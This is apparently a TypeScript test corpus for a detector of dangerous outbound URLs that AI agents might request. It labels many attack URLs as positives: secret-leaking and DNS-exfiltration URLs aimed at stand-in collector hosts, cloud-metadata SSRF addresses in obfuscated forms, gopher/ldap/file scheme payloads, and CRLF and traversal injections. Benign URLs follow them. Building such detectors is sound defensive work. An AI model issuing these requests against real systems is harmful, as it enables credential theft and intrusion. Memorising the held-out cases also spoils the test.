// Held-out URL cases: outbound URLs an agent might request. Positives leak secrets, exfiltrate over
// DNS, hit request catchers / paste sites, reach internal or metadata addresses, use non-http schemes,
// or carry CRLF / traversal payloads. Credential-shaped values are built at run time (seeded PRNG).
import type { CorpusCase } from "../types.ts";
import { aws, B62, B64URL, checksummed, jwt, maker, P, Rng, UPPER_DIGITS } from "./_gen.ts";

const m = maker("url");
const r = new Rng(0x5eed_0a11);
const pos = (id: string, category: string, url: string, note?: string) => m(id, category, "positive", url, note);
const ben = (id: string, category: string, url: string, note?: string) => m(id, category, "benign", url, note);

const ghp = checksummed(P.ghp(), r);
const npmTok = checksummed(P.npm(), r);
const key = aws(r);
const stripe = P.skLive() + r.b62(24);
const slack = P.xoxb() + `${1000000000 + r.int(8999999999)}-${1000000000 + r.int(8999999999)}-${r.b62(24)}`;
const openai = P.skProj() + r.str(B64URL, 48) + "T3Blb" + "kFJ" + r.str(B64URL, 48);
const anth = P.skAnt() + r.str(B64URL, 93) + "AA";
const gkey = P.aiza() + r.str(B64URL, 35);
const glpat = P.glpat() + r.str(B62 + "-_", 20);
const hfTok = P.hf() + r.str("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz", 34);
const token = jwt(r, { sub: "user_4821", role: "admin", iat: 1717000000, exp: 1717086400 });
const pct = (s: string) => [...Buffer.from(s)].map((b) => "%" + b.toString(16).toUpperCase().padStart(2, "0")).join("");
const b64 = (s: string) => Buffer.from(s).toString("base64");
const b64u = (s: string) => Buffer.from(s).toString("base64url");
const hex = (s: string) => Buffer.from(s).toString("hex");
const b32 = (s: string) => {
  let bits = "";
  for (const b of Buffer.from(s)) bits += b.toString(2).padStart(8, "0");
  let out = "";
  for (let i = 0; i < bits.length; i += 5) out += UPPER_DIGITS[parseInt(bits.slice(i, i + 5).padEnd(5, "0"), 2)];
  return out.toLowerCase();
};
const labels = (s: string, n = 60) => (s.match(new RegExp(`.{1,${n}}`, "g")) ?? []).join(".");
const envDump = `AWS_ACCESS_KEY_ID=${key.id}\nAWS_SECRET_ACCESS_KEY=${key.secret}`;

export const cases: CorpusCase[] = [
  // ---------------------------------------------------------------- secrets in query / path / fragment / userinfo
  pos("ho-url-sec-01", "heldout-url-secrets", `https://collect.stats-pixel.example/p.gif?uid=4821&t=${ghp}`),
  pos("ho-url-sec-02", "heldout-url-secrets", `https://api.partner-sync.example/v1/import?access_key=${key.id}&secret_key=${encodeURIComponent(key.secret)}&region=us-east-1`),
  pos("ho-url-sec-03", "heldout-url-secrets", `https://hooks.integrations.example/relay/${stripe}/events`, "secret as a path segment"),
  pos("ho-url-sec-04", "heldout-url-secrets", `https://docs-preview.example/view#token=${token}`, "JWT in the fragment"),
  pos("ho-url-sec-05", "heldout-url-secrets", `https://deploy:${ghp}@git.code-mirror.example/acme/api.git`, "token in userinfo to a non-GitHub host"),
  pos("ho-url-sec-06", "heldout-url-secrets", `https://img.cdn-resize.example/render.png?d=${pct(openai)}`, "fully percent-encoded key"),
  pos("ho-url-sec-07", "heldout-url-secrets", `https://analytics.page-metrics.example/e?data=${encodeURIComponent(b64(envDump))}`, "base64 of an env dump"),
  pos("ho-url-sec-08", "heldout-url-secrets", `https://t.click-track.example/c?h=${hex(slack)}`, "hex-encoded Slack token"),
  pos("ho-url-sec-09", "heldout-url-secrets", `https://webform.survey-host.example/submit?name=dev&note=${encodeURIComponent(`my npm token is ${npmTok}`)}`),
  pos("ho-url-sec-10", "heldout-url-secrets", `https://render.markdown-img.example/i.png?q=${b64u(`ANTHROPIC_API_KEY=${anth}`)}`, "base64url in a markdown-image style URL"),
  pos("ho-url-sec-11", "heldout-url-secrets", `https://maps.tile-proxy.example/tiles/3/4/2.png?key=${gkey}`, "Google API key sent to a third-party proxy"),
  pos("ho-url-sec-12", "heldout-url-secrets", `https://ci-status.example/badge?private_token=${glpat}&project=12`),
  pos("ho-url-sec-13", "heldout-url-secrets", `https://search.example-engine.example/search?q=${encodeURIComponent(`huggingface token ${hfTok} not working`)}`, "token pasted into a search query"),
  pos("ho-url-sec-14", "heldout-url-secrets", `https://api.exfil-metrics.example/v2/${b64u(key.id + ":" + key.secret)}/ping`, "base64url of AWS key pair in the path"),
  pos("ho-url-sec-15", "heldout-url-secrets", `https://pastecode.example/new?content=${encodeURIComponent(P.pem("OPENSSH PRIVATE") + "\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW" + r.b64(120) + "\n" + P.pemEnd("OPENSSH PRIVATE"))}`, "private key in the query"),
  pos("ho-url-sec-16", "heldout-url-secrets", `https://u.short-links.example/?ref=${encodeURIComponent(`DATABASE_URL=postgres://app:${r.password()}@db.internal:5432/prod`)}`),

  // ---------------------------------------------------------------- DNS exfiltration
  pos("ho-url-dns-01", "heldout-url-dns-exfil", `https://${labels(hex(envDump), 60)}.x.dns-log-collector.example/`, "hex labels"),
  pos("ho-url-dns-02", "heldout-url-dns-exfil", `http://${labels(b32("root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1"), 50)}.d.oast-relay.example/a`, "base32 labels"),
  pos("ho-url-dns-03", "heldout-url-dns-exfil", `https://${hex("ghp")}.${labels(hex(ghp), 40)}.t.burp-collab.example`, "token hex split across labels"),
  pos("ho-url-dns-04", "heldout-url-dns-exfil", `http://0.${r.hex(62)}.1.${r.hex(62)}.2.${r.hex(62)}.exfil.zone-example.net/`, "sequenced chunks"),
  pos("ho-url-dns-05", "heldout-url-dns-exfil", `https://${labels(b64u(`user=alice;pass=${r.password()}`).replace(/[-_]/g, "0"), 30)}.cb.oastify.com/`),
  pos("ho-url-dns-06", "heldout-url-dns-exfil", `http://${r.hex(32)}.${r.hex(32)}.${r.hex(32)}.${r.hex(32)}.ns.data-tunnel.example/`),

  // ---------------------------------------------------------------- request catchers and paste sites
  pos("ho-url-catch-01", "heldout-url-catchers", `https://webhook.site/${r.uuid()}?data=session-history`),
  pos("ho-url-catch-02", "heldout-url-catchers", `https://eo${r.str("abcdefghijklmnopqrstuvwxyz0123456789", 13)}.m.pipedream.net/?q=collect`),
  pos("ho-url-catch-03", "heldout-url-catchers", `https://pastebin.com/api/api_post.php?api_option=paste&api_paste_code=${encodeURIComponent("config dump follows")}`),
  pos("ho-url-catch-04", "heldout-url-catchers", `https://transfer.sh/${r.b62(6)}/workspace.tar.gz`),
  pos("ho-url-catch-05", "heldout-url-catchers", `https://${r.hex(4)}-203-0-113-7.ngrok-free.app/upload`),
  pos("ho-url-catch-06", "heldout-url-catchers", `http://${r.str("abcdefghijklmnopqrstuvwxyz0123456789", 20)}.oast.fun/`),
  pos("ho-url-catch-07", "heldout-url-catchers", `https://${r.str("abcdefghijklmnopqrstuvwxyz0123456789", 20)}.interact.sh/x?h=1`),
  pos("ho-url-catch-08", "heldout-url-catchers", `https://myapp.requestcatcher.com/collect?env=prod`),
  pos("ho-url-catch-09", "heldout-url-catchers", `https://0x0.st/`),
  pos("ho-url-catch-10", "heldout-url-catchers", `https://discord.com/api/webhooks/${1100000000000000000 + r.int(99999999)}/${r.str(B64URL, 68)}`, "Discord webhook with its token"),
  pos("ho-url-catch-11", "heldout-url-catchers", `https://file.io/?expires=1d`),
  pos("ho-url-catch-12", "heldout-url-catchers", `https://paste.ee/api/v1/pastes?key=public`),
  pos("ho-url-catch-13", "heldout-url-catchers", `https://${r.str("abcdefghijklmnopqrstuvwxyz0123456789", 8)}.free.beeceptor.com/log`),
  pos("ho-url-catch-14", "heldout-url-catchers", `https://${r.b62(10).toLowerCase()}.trycloudflare.com/recv`),

  // ---------------------------------------------------------------- SSRF: metadata, loopback, internal
  pos("ho-url-ssrf-01", "heldout-url-ssrf", `http://169.254.169.254/latest/meta-data/iam/security-credentials/`),
  pos("ho-url-ssrf-02", "heldout-url-ssrf", `http://2852039166/latest/user-data`, "decimal IMDS"),
  pos("ho-url-ssrf-03", "heldout-url-ssrf", `http://0251.0376.0251.0376/latest/meta-data/`, "octal IMDS"),
  pos("ho-url-ssrf-04", "heldout-url-ssrf", `http://0xa9fea9fe/latest/api/token`, "hex IMDS"),
  pos("ho-url-ssrf-05", "heldout-url-ssrf", `http://0xA9.254.0251.0xFE/latest/meta-data/`, "mixed-radix IMDS"),
  pos("ho-url-ssrf-06", "heldout-url-ssrf", `http://[::ffff:169.254.169.254]/latest/meta-data/`, "IPv6-mapped IMDS"),
  pos("ho-url-ssrf-07", "heldout-url-ssrf", `http://[::ffff:a9fe:a9fe]/computeMetadata/v1/`, "IPv6-mapped hex IMDS"),
  pos("ho-url-ssrf-08", "heldout-url-ssrf", `http://[fd00:ec2::254]/latest/meta-data/`, "AWS IMDS IPv6 endpoint"),
  pos("ho-url-ssrf-09", "heldout-url-ssrf", `http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token`),
  pos("ho-url-ssrf-10", "heldout-url-ssrf", `http://100.100.100.200/latest/meta-data/ram/security-credentials/`, "Alibaba metadata"),
  pos("ho-url-ssrf-11", "heldout-url-ssrf", `http://169.254.170.2/v2/credentials/${r.uuid()}`, "ECS task credentials"),
  pos("ho-url-ssrf-12", "heldout-url-ssrf", `http://127.1:2375/containers/json`, "short loopback, Docker API"),
  pos("ho-url-ssrf-13", "heldout-url-ssrf", `http://0.0.0.0:6379/`),
  pos("ho-url-ssrf-14", "heldout-url-ssrf", `http://[::1]:8500/v1/kv/?recurse`),
  pos("ho-url-ssrf-15", "heldout-url-ssrf", `http://2130706433:8080/admin`, "decimal loopback"),
  pos("ho-url-ssrf-16", "heldout-url-ssrf", `http://localhost.:9200/_cat/indices`, "trailing-dot localhost"),
  pos("ho-url-ssrf-17", "heldout-url-ssrf", `http://[0:0:0:0:0:ffff:127.0.0.1]:8080/actuator/env`),
  pos("ho-url-ssrf-18", "heldout-url-ssrf", `http://017700000001/server-status`, "octal loopback"),
  pos("ho-url-ssrf-19", "heldout-url-ssrf", `http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets`),
  pos("ho-url-ssrf-20", "heldout-url-ssrf", `http://169.254.169.254.nip.io/latest/meta-data/`, "wildcard DNS to IMDS"),
  pos("ho-url-ssrf-21", "heldout-url-ssrf", `http://instance-data/latest/meta-data/`, "EC2 instance-data alias"),
  pos("ho-url-ssrf-22", "heldout-url-ssrf", `http://169.254.169.254/metadata/instance?api-version=2021-02-01`, "Azure IMDS"),

  // ---------------------------------------------------------------- non-http schemes
  pos("ho-url-scheme-01", "heldout-url-scheme", `file:///etc/passwd`),
  pos("ho-url-scheme-02", "heldout-url-scheme", `file://localhost/home/dev/.ssh/id_rsa`),
  pos("ho-url-scheme-03", "heldout-url-scheme", `gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A`),
  pos("ho-url-scheme-04", "heldout-url-scheme", `dict://127.0.0.1:11211/stats`),
  pos("ho-url-scheme-05", "heldout-url-scheme", `ldap://attacker-ldap.example:1389/Exploit`),
  pos("ho-url-scheme-06", "heldout-url-scheme", `jar:http://files.example/evil.jar!/META-INF/MANIFEST.MF`),
  pos("ho-url-scheme-07", "heldout-url-scheme", `FILE:///C:/Users/dev/AppData/Roaming/npm/etc/npmrc`, "upper-case scheme, Windows path"),
  pos("ho-url-scheme-08", "heldout-url-scheme", `tftp://198.51.100.4/config.bin`),

  // ---------------------------------------------------------------- CRLF and traversal
  pos("ho-url-inj-01", "heldout-url-injection", `https://app.example.com/redirect?next=/home%0d%0aSet-Cookie:%20session=attacker`),
  pos("ho-url-inj-02", "heldout-url-injection", `http://api.example.com/v1/items%0D%0AX-Forwarded-Host:%20evil.example%0D%0A`),
  pos("ho-url-inj-03", "heldout-url-injection", `https://static.example.com/assets/..%2f..%2f..%2fetc%2fpasswd`),
  pos("ho-url-inj-04", "heldout-url-injection", `https://files.example.com/download?file=..%252f..%252f..%252f.env`, "double-encoded traversal"),
  pos("ho-url-inj-05", "heldout-url-injection", `https://cdn.example.com/static/%2e%2e/%2e%2e/%2e%2e/root/.aws/credentials`),
  pos("ho-url-inj-06", "heldout-url-injection", `https://app.example.com/page?lang=en%E5%98%8A%E5%98%8DLocation:%20https://evil.example`, "Unicode CRLF variant"),
  pos("ho-url-inj-07", "heldout-url-injection", `https://wiki.example.com/view?doc=....//....//....//etc/shadow`),
  pos("ho-url-inj-08", "heldout-url-injection", `https://images.example.com/resize?src=..%5c..%5c..%5cwindows%5cwin.ini`, "backslash traversal"),
];

// ---------------------------------------------------------------- benign
const sha = () => r.hex(40);
cases.push(
  ben("ho-url-ben-01", "heldout-url-benign-cdn", `https://cdn.jsdelivr.net/npm/vue@3.4.21/dist/vue.global.prod.js`),
  ben("ho-url-ben-02", "heldout-url-benign-cdn", `https://assets.example-shop.com/_next/static/chunks/pages/_app-${r.hex(16)}.js`),
  ben("ho-url-ben-03", "heldout-url-benign-cdn", `https://unpkg.com/react-dom@18.2.0/umd/react-dom.production.min.js`),
  ben("ho-url-ben-04", "heldout-url-benign-cdn", `https://fonts.gstatic.com/s/inter/v13/UcCO3FwrK3iLTeHuS_fvQtMwCp50KnMw2boKoduKmMEVuLyfAZ9hiA.woff2`),
  ben("ho-url-ben-05", "heldout-url-benign-cdn", `https://static.cdn-site.com/build/main.${r.hex(20)}.css`),
  ben("ho-url-ben-06", "heldout-url-benign-packages", `https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz`),
  ben("ho-url-ben-07", "heldout-url-benign-packages", `https://files.pythonhosted.org/packages/${r.hex(2)}/${r.hex(2)}/${r.hex(60)}/requests-2.31.0-py3-none-any.whl`),
  ben("ho-url-ben-08", "heldout-url-benign-packages", `https://static.crates.io/crates/serde/serde-1.0.197.crate`),
  ben("ho-url-ben-09", "heldout-url-benign-packages", `https://proxy.golang.org/github.com/spf13/cobra/@v/v1.8.0.zip`),
  ben("ho-url-ben-10", "heldout-url-benign-packages", `https://repo1.maven.org/maven2/com/google/guava/guava/33.0.0-jre/guava-33.0.0-jre.jar`),
  ben("ho-url-ben-11", "heldout-url-benign-packages", `https://rubygems.org/downloads/rails-7.1.3.gem`),
  ben("ho-url-ben-12", "heldout-url-benign-github", `https://github.com/torvalds/linux/commit/${sha()}`),
  ben("ho-url-ben-13", "heldout-url-benign-github", `https://github.com/nodejs/node/blob/${sha()}/lib/internal/url.js#L120-L168`),
  ben("ho-url-ben-14", "heldout-url-benign-github", `https://raw.githubusercontent.com/python/cpython/${sha()}/Lib/json/__init__.py`),
  ben("ho-url-ben-15", "heldout-url-benign-github", `https://github.com/rust-lang/rust/compare/${sha().slice(0, 12)}...${sha().slice(0, 12)}`),
  ben("ho-url-ben-16", "heldout-url-benign-github", `https://codeload.github.com/denoland/deno/tar.gz/refs/tags/v1.41.0`),
  ben("ho-url-ben-17", "heldout-url-benign-signed", `https://my-bucket.s3.us-west-2.amazonaws.com/reports/2024/q1.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=${P.asia()}${r.str(UPPER_DIGITS.replace(/[01]/g, ""), 16)}%2F20240301%2Fus-west-2%2Fs3%2Faws4_request&X-Amz-Date=20240301T120000Z&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature=${r.hex(64)}`, "S3 presigned URL (credential id + signature, no secret key)"),
  ben("ho-url-ben-18", "heldout-url-benign-signed", `https://storage.googleapis.com/example-media/videos/intro.mp4?X-Goog-Algorithm=GOOG4-RSA-SHA256&X-Goog-Credential=signer%40example-project.iam.gserviceaccount.com%2F20240301%2Fauto%2Fstorage%2Fgoog4_request&X-Goog-Date=20240301T120000Z&X-Goog-Expires=3600&X-Goog-SignedHeaders=host&X-Goog-Signature=${r.hex(512)}`),
  ben("ho-url-ben-19", "heldout-url-benign-signed", `https://examplestore.blob.core.windows.net/exports/data.csv?sv=2022-11-02&ss=b&srt=o&sp=r&se=2024-03-02T00:00:00Z&st=2024-03-01T00:00:00Z&spr=https&sig=${encodeURIComponent(r.b64(43) + "=")}`, "Azure SAS URL"),
  ben("ho-url-ben-20", "heldout-url-benign-signed", `https://d111111abcdef8.cloudfront.net/private/movie.mp4?Expires=1709300000&Signature=${r.str(B62 + "~-_", 172)}&Key-Pair-Id=K2JCJMDEHXQW5F`),
  ben("ho-url-ben-21", "heldout-url-benign-oauth", `https://accounts.google.com/o/oauth2/v2/auth?client_id=123456789012-${r.str("abcdefghijklmnopqrstuvwxyz0123456789", 32)}.apps.googleusercontent.com&redirect_uri=https%3A%2F%2Fapp.example.com%2Fauth%2Fcallback&response_type=code&scope=openid%20email%20profile&state=${r.str(B64URL, 32)}&code_challenge=${r.str(B64URL, 43)}&code_challenge_method=S256`),
  ben("ho-url-ben-22", "heldout-url-benign-oauth", `https://github.com/login/oauth/authorize?client_id=Iv1.${r.hex(16)}&redirect_uri=https%3A%2F%2Fci.example.dev%2Fcallback&scope=read%3Auser%20repo&state=${r.hex(32)}`),
  ben("ho-url-ben-23", "heldout-url-benign-oauth", `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=${r.uuid()}&response_type=code&redirect_uri=http%3A%2F%2Flocalhost%3A53682%2F&response_mode=query&scope=offline_access%20User.Read&state=${r.hex(16)}`, "loopback redirect for a desktop app"),
  ben("ho-url-ben-24", "heldout-url-benign-oauth", `https://app.example.com/auth/callback?code=${r.str(B64URL, 40)}&state=${r.str(B64URL, 32)}`, "authorization code callback on the app's own domain"),
  ben("ho-url-ben-25", "heldout-url-benign-search", `https://www.google.com/search?q=${encodeURIComponent("如何配置 nginx 反向代理")}&hl=zh-CN`),
  ben("ho-url-ben-26", "heldout-url-benign-search", `https://yandex.ru/search/?text=${encodeURIComponent("как настроить резервное копирование postgres")}&lr=213`),
  ben("ho-url-ben-27", "heldout-url-benign-search", `https://www.bing.com/search?q=${encodeURIComponent("أفضل مكتبات بايثون لتحليل البيانات")}&form=QBLH`),
  ben("ho-url-ben-28", "heldout-url-benign-search", `https://duckduckgo.com/?q=${encodeURIComponent("what is 127.0.0.1 localhost")}&ia=web`),
  ben("ho-url-ben-29", "heldout-url-benign-search", `https://ja.wikipedia.org/wiki/${encodeURIComponent("東京都")}`),
  ben("ho-url-ben-30", "heldout-url-benign-api", `https://api.example-crm.com/v2/contacts/${r.uuid()}/notes?limit=50&cursor=${r.str(B64URL, 24)}`),
  ben("ho-url-ben-31", "heldout-url-benign-api", `https://api.stripe.com/v1/customers/cus_${r.b62(14)}/invoices?limit=10`, "object id, not a key"),
  ben("ho-url-ben-32", "heldout-url-benign-api", `https://graph.microsoft.com/v1.0/users/${r.uuid()}/messages?$select=subject,from&$top=25`),
  ben("ho-url-ben-33", "heldout-url-benign-api", `https://api.github.com/repos/kubernetes/kubernetes/actions/runs/${8000000000 + r.int(99999999)}/jobs?per_page=100`),
  ben("ho-url-ben-34", "heldout-url-benign-tracking", `https://www.example-news.com/2024/03/01/markets-rally.html?utm_source=newsletter&utm_medium=email&utm_campaign=daily_brief_0301&utm_content=top_story`),
  ben("ho-url-ben-35", "heldout-url-benign-tracking", `https://shop.example.com/products/running-shoe?variant=${40000000000000 + r.int(99999999)}&gclid=${r.str(B64URL, 60)}&fbclid=IwAR${r.str(B64URL, 56)}`),
  ben("ho-url-ben-36", "heldout-url-benign-tracking", `https://www.google-analytics.com/g/collect?v=2&tid=G-${r.str(UPPER_DIGITS, 10)}&cid=${1000000000 + r.int(999999999)}.${1700000000 + r.int(9999999)}&en=page_view&dl=https%3A%2F%2Fexample.com%2Fpricing`),
  ben("ho-url-ben-37", "heldout-url-benign-media", `https://www.youtube.com/watch?v=${r.str(B64URL, 11)}&t=92s`),
  ben("ho-url-ben-38", "heldout-url-benign-media", `https://docs.google.com/document/d/1${r.str(B64URL, 43)}/edit?usp=sharing`),
  ben("ho-url-ben-39", "heldout-url-benign-media", `https://open.spotify.com/track/${r.b62(22)}?si=${r.hex(16)}`),
  ben("ho-url-ben-40", "heldout-url-benign-media", `https://www.figma.com/file/${r.b62(22)}/Design-System?type=design&node-id=12-345&mode=design`),
  ben("ho-url-ben-41", "heldout-url-benign-long", `https://www.amazon.com/Anker-Charger-Compact-Foldable-MacBook/dp/B0${r.str("ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", 8)}/ref=sr_1_3?crid=${r.str("ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", 13)}&keywords=usb+c+charger&qid=1709300000&sprefix=usb+c+char%2Caps%2C180&sr=8-3`),
  ben("ho-url-ben-42", "heldout-url-benign-long", `https://www.booking.com/searchresults.html?ss=Lisbon&checkin=2024-05-10&checkout=2024-05-14&group_adults=2&no_rooms=1&group_children=0&nflt=price%3DEUR-min-150-1%3Breview_score%3D80&order=popularity&sb_travel_purpose=leisure`),
  ben("ho-url-ben-43", "heldout-url-benign-docs", `https://en.wikipedia.org/wiki/Localhost`),
  ben("ho-url-ben-44", "heldout-url-benign-docs", `https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html`, "docs page about the metadata service"),
  ben("ho-url-ben-45", "heldout-url-benign-docs", `https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Set-Cookie`),
  ben("ho-url-ben-46", "heldout-url-benign-docs", `https://stackoverflow.com/questions/20778771/what-is-the-difference-between-0-0-0-0-127-0-0-1-and-localhost`),
  ben("ho-url-ben-47", "heldout-url-benign-docs", `https://owasp.org/www-community/attacks/Server_Side_Request_Forgery`),
  ben("ho-url-ben-48", "heldout-url-benign-docs", `https://cloud.google.com/compute/docs/metadata/querying-metadata`),
  ben("ho-url-ben-49", "heldout-url-benign-misc", `https://hub.docker.com/layers/library/nginx/1.25-alpine/images/sha256-${r.hex(64)}?context=explore`),
  ben("ho-url-ben-50", "heldout-url-benign-misc", `https://ghcr.io/v2/example-org/api/manifests/sha256:${r.hex(64)}`),
  ben("ho-url-ben-51", "heldout-url-benign-misc", `https://www.openstreetmap.org/#map=15/38.7223/-9.1393`),
  ben("ho-url-ben-52", "heldout-url-benign-misc", `https://calendar.google.com/calendar/render?action=TEMPLATE&text=Team+sync&dates=20240305T150000Z/20240305T153000Z&details=Weekly+sync&location=Room+4`),
  ben("ho-url-ben-53", "heldout-url-benign-misc", `https://example.zendesk.com/hc/en-us/articles/${360000000000 + r.int(99999999)}-How-do-I-reset-my-password-`),
  ben("ho-url-ben-54", "heldout-url-benign-misc", `https://ci.example.dev/job/api-build/1423/artifact/build/reports/tests/index.html`),
  ben("ho-url-ben-55", "heldout-url-benign-misc", `https://archive.org/web/20240101000000*/example.com`),
  ben("ho-url-ben-56", "heldout-url-benign-misc", `https://sentry.io/organizations/example/issues/${4000000000 + r.int(999999999)}/?project=${4500000 + r.int(99999)}&query=is%3Aunresolved&statsPeriod=14d`),
);

